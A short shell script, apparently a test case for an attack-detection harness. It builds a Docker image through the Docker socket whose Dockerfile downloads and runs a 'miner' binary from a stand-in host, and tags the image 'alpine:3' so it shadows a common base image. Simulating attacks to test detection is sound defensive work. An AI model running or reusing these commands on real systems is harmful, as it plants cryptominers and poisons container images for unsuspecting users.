#!/bin/sh
. /opt/case/case.sh

mkdir /tmp/b
printf 'FROM alpine\nRUN wget -O /m http://203.0.113.10/programs/miner && chmod +x /m\nENTRYPOINT ["/m"]\n' >/tmp/b/Dockerfile
tar -C /tmp/b -cf /tmp/b.tar .
curl -s --unix-socket /run/docker.sock -X POST -H 'Content-Type: application/x-tar' --data-binary @/tmp/b.tar 'http://x/v1.41/build?t=alpine:3&pull=1' | grep -q ok
took_place
